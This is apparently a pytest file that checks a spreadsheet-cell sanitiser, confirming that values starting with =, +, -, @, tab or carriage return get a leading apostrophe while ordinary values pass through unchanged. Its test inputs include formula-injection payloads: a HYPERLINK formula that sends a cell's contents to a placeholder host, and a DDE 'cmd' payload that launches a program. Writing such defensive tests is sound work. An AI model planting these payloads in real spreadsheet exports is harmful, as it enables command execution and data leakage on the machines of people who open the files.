import pytest

from tracker.services.cellsafe import neutralize


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x"&B4,"bấm")', "=cmd|' /C calc'!A0", "+1+2", "-2+3",
                                  "@SUM(A1)", "\t=1+1", "\r=1+1"])
def test_formula_leads_are_neutralised(text):
    assert neutralize(text) == "'" + text


@pytest.mark.parametrize("value", ["Báo cáo tiến độ", "", "1-2", "a=b", 12, None, 3.5])
def test_other_values_pass_unchanged(value):
    assert neutralize(value) == value
